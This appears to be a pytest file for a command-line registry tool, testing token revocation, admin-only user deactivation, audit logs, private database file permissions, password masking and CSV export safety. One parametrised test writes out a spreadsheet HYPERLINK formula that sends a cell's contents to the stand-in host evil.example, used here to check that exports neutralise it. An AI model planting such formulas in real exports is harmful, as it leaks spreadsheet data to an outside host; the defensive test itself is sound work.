"""Issue 17 on the command line: token revocation, user deactivation, safe CSV, private files."""

from __future__ import annotations

import csv
import json
import stat
from pathlib import Path

import pytest

from ivig.cli import main
from ivig.registry.db import make_engine, mask_url
from ivig.registry.output import csv_safe, write_csv


def _json(capsys: pytest.CaptureFixture[str], argv: list[str]) -> dict[str, object]:
    assert main(argv) == 0, capsys.readouterr().err
    found: dict[str, object] = json.loads(capsys.readouterr().out)
    return found


def test_tokens_are_revoked_and_users_deactivated_by_an_admin(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("IVIG_DATABASE_URL", f"sqlite:///{tmp_path / 'r.db'}")
    _json(capsys, ["db", "upgrade", "--json"])
    _json(capsys, ["registry", "user-add", "root", "admin", "--json"])
    _json(capsys, ["registry", "user-add", "nina", "nurse", "--as", "root", "--json"])
    issued = _json(capsys, ["registry", "token", "nina", "--as", "nina", "--json"])["result"]
    assert isinstance(issued, dict)
    token_id = str(issued["token_id"])
    assert main(["registry", "token", "revoke", token_id, "--as", "nina"]) == 0  # own token
    capsys.readouterr()
    again = _json(capsys, ["registry", "token", "nina", "--as", "root", "--json"])["result"]
    assert isinstance(again, dict)
    assert main(["registry", "user", "deactivate", "root", "--as", "nina"]) == 2
    assert "needs role: admin" in capsys.readouterr().err
    out = _json(capsys, ["registry", "user", "deactivate", "nina", "--as", "root", "--json"])
    assert out["result"] == {
        "id": 2,
        "username": "nina",
        "role": "nurse",
        "display_name": None,
        "active": False,
    }
    verified = _json(capsys, ["db", "verify-audit", "--json"])["result"]
    assert isinstance(verified, dict) and verified["ok"] is True
    log = _json(capsys, ["registry", "audit-log", "--json"])["result"]
    assert isinstance(log, list)
    assert [e["action"] for e in log[:2]] == ["deactivate_user", "issue_token"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path: Path, start: str) -> None:
    """OWASP CSV injection: a leading apostrophe keeps the cell text."""
    path = tmp_path / "out.csv"
    payload = f'{start}HYPERLINK("http://evil.example/?x="&A1)'
    write_csv(str(path), [{"product": payload, "grams": -5.0}])
    with path.open(encoding="utf-8", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["product"] == "'" + payload
    assert row["grams"] == "-5.0"  # numbers are not text: left as they are
    assert csv_safe("privigen") == "privigen"


def test_the_registry_file_is_private(tmp_path: Path) -> None:
    folder = tmp_path / "new" / "ivig"
    engine = make_engine(f"sqlite:///{folder / 'registry.db'}")
    with engine.connect():
        pass
    engine.dispose()
    assert stat.S_IMODE((folder / "registry.db").stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def test_printed_database_urls_hide_the_password() -> None:
    assert mask_url("postgresql://ivig:s3cret@db.example/ivig") == (
        "postgresql://ivig:***@db.example/ivig"
    )
    assert "s3cret" not in mask_url("not a url://ivig:s3cret@x")
